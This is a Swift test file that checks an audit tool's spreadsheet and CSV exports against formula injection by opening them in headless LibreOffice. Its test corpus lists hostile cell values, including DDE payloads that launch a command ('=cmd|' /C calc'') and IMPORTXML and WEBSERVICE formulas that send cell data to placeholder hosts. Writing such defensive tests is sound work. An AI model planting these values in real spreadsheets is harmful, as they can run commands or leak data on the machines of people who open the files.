import Foundation
import Testing

/// What leaves for a spreadsheet, as LibreOffice opens it.
@Suite(.serialized)
struct `A spreadsheet` {
  /// Texts that spreadsheets have taken for formulas, links or commands.
  private static let corpus = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=1+1;=2+2", "=\"a\"&\"b\"", "\"=1+1\"",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://exemple.invalid\";\"ici\")", "=IMPORTXML(CONCAT(\"http://x/\";A1))",
    "＝1+1", "＋1", "-2+3+cmd|' /C calc'!D2", "=WEBSERVICE(\"http://exemple.invalid\")",
    "0x1F", "1e9", "2026-11-21", "TRUE", "'=1+1", "{=1+1}", "=1+1,=2",
  ]

  private func prepared() throws -> Sandbox {
    let sandbox = try Sandbox.prepared()
    let lines = Self.corpus.map { text in
      let quoted = text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"")
      return "finding add M1-A1 \"\(quoted)\" --grade pf --seen \"\(quoted)\" --site digne"
    }
    try sandbox.demo(lines.joined(separator: "\n"))
    return sandbox
  }

  @Test func `computes nothing of what a person typed`() throws {
    let sandbox = try prepared()
    try sandbox.demo(
      """
      report write to "rapport.fods"
      report write to "constats.csv" as excel
      audit export to "grille.csv" as excel
      audit export to "ciso.csv" as ciso
      evidence list to "preuves.fods"
      """)
    guard try Outside.isThere("soffice", for: "the opening of the tables", sandbox) else { return }
    // A table of the same texts without a guard shows that the judge sees a formula.
    try sandbox.write("nu.csv", Self.corpus.joined(separator: "\r\n") + "\r\n")
    let said = try sandbox.shell(
      """
      mkdir out && for f in csv fods; do
        filter=; [ $f = csv ] && filter=--infilter=CSV:59,34,76,1
        soffice "-env:UserInstallation=file://$HOME/office" --headless $filter \
          --convert-to fods --outdir out *.$f || exit 1
      done
      """)
    #expect(said.status == 0, "\(said.output)\(said.errors)")
    #expect(try sandbox.text("out/nu.fods").contains("table:formula"))
    for name in ["rapport", "constats", "grille", "ciso", "preuves"] {
      let text = try sandbox.text("out/\(name).fods")
      #expect(!text.contains("table:formula"), "\(name)")
      #expect(!text.contains("<table:dde-link"), "\(name)")
      guard name != "grille", name != "ciso" else { continue }
      for word in ["=1+1", "=cmd|", "＝1+1"] { #expect(text.contains(word), "\(name): \(word)") }
    }
  }

  @Test func `of a report has a sheet for each table, with dates as dates`() throws {
    let sandbox = try Sandbox.prepared()
    try sandbox.demo(
      """
      finding add M1-B4 "délai non affiché" --grade ncmin --seen "vu" --due 2027-01-20 --site digne
      report write to "rapport.fods"
      report write to "rapport.json"
      """)
    let text = try sandbox.text("rapport.fods")
    let tables = try sandbox.text("rapport.json").ranges(of: "\"kind\": \"table\"").count
    #expect(text.ranges(of: "<table:table ").count == tables + 1)
    #expect(text.contains("office:value-type=\"date\" office:date-value=\"2027-01-20\""))
    #expect(text.contains("office:value-type=\"float\""))
    let names = text.matches(of: /table:name="([^"]*)"/).map { String($0.1) }
    #expect(Set(names).count == names.count && names.allSatisfy { $0.count <= 40 })
    guard try Outside.isThere("xmllint", for: "the reading of the XML", sandbox) else { return }
    #expect(try sandbox.shell("xmllint --noout rapport.fods").status == 0)
  }
}
